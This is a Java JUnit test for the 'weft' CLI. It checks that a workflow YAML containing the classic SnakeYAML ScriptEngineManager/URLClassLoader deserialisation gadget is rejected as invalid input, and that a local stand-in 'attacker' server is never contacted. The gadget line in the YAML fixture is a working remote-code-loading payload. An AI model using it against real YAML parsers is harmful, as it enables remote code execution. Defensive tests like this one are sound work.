package dev.weft.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.sun.net.httpserver.HttpServer;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The classic SnakeYAML gadget (a ScriptEngineManager over a URLClassLoader pointed at an
 * attacker's server) handed to `weft validate` and `weft run`: refused as invalid input (exit 2)
 * at its line, and nothing is constructed: the "attacker's" server, a real one, is never called.
 */
class YamlTagsCliTest {
    @TempDir
    Path dir;

    @Test
    void aDeserialisationGadgetIsRefusedAndNothingIsConstructed() throws Exception {
        AtomicInteger hits = new AtomicInteger();
        HttpServer attacker = HttpServer.create(new InetSocketAddress(InetAddress.getByName("127.0.0.1"), 0), 0);
        attacker.createContext("/", ex -> {
            hits.incrementAndGet();
            ex.sendResponseHeaders(404, -1);
            ex.close();
        });
        attacker.start();
        try {
            String url = "http://127.0.0.1:" + attacker.getAddress().getPort() + "/";
            Path wf = dir.resolve("gadget.yaml");
            Files.writeString(wf, """
                    name: gadget
                    models:
                      m: {provider: simulated, model: sim}
                    source: {generate: 1}
                    nodes:
                      a:
                        kind: llm
                        model: m
                        prompt: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["%s"]]]]
                    edges:
                      - a -> END
                    """.formatted(url));
            for (String cmd : new String[] {"validate", "run"}) {
                Cli.Result r = cmd.equals("run") ? Cli.run("run", wf.toString(), "--db", dir.resolve("weft.db").toString(), "-q")
                        : Cli.run("validate", wf.toString());
                assertEquals(2, r.exit(), r.toString());
                assertTrue(r.err().contains(wf + ":9:13: YAML tag !!javax.script.ScriptEngineManager is not allowed"), r.err());
                assertFalse(r.err().contains("Exception"), r.err());
            }
            Thread.sleep(200);
            assertEquals(0, hits.get(), "the gadget's class loader fetched from the attacker's server");
        } finally {
            attacker.stop(0);
        }
    }
}
